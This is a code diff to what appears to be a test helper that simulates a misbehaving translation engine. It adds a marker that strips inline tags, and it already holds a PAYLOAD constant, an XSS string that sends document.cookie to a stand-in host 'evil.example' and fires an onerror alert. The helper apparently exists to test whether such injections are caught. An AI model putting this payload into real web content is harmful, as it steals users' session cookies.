@@ -11,14 +11,20 @@ from collections.abc import Sequence
 from concurrent.futures import Future
 
 from bench.costengine import CostModelEngine
+from core.documents.base import TAG
 from workers.engines.base import Translation, TranslationRequest
 
 MARKER = "INJECT"
+#: A source containing this comes back with every inline tag dropped (a hard check failure:
+#: the protected spans they stand for go missing).
+DROP_TAGS = "DROPTAGS"
 PAYLOAD = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
 
 
 def _hijack(request: TranslationRequest, out: str | Translation) -> Translation:
     text = out.text if isinstance(out, Translation) else out
+    if DROP_TAGS in request.text:
+        text = TAG.sub("", text)
     return Translation(f"{text} {PAYLOAD}" if MARKER in request.text else text)
 
 
